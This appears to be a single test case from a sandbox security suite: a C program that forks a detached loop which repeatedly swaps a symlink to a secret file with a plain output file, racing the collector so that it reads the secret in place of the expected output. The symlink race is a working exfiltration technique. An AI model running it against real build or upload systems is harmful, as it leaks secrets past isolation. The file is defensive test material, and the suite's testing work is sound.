// Swaps what is to be collected for a link to the secret, as often as it can, to the very end.
// attack: 54
// expect: exit 0
// take-any: out
// levels: full rootless guarded
#include "../attack.h"

int main(void) {
    if (fork() == 0) {
        setsid();
        for (;;) {
            if (symlink(getenv("AGON_SECRET"), "link")) {}
            rename("link", "out");
            int file = open("plain", O_WRONLY | O_CREAT, 0644);
            if (write(file, "plain", 5) < 0) {}
            close(file);
            rename("plain", "out");
        }
    }
    nap(30);
    return 0;
}
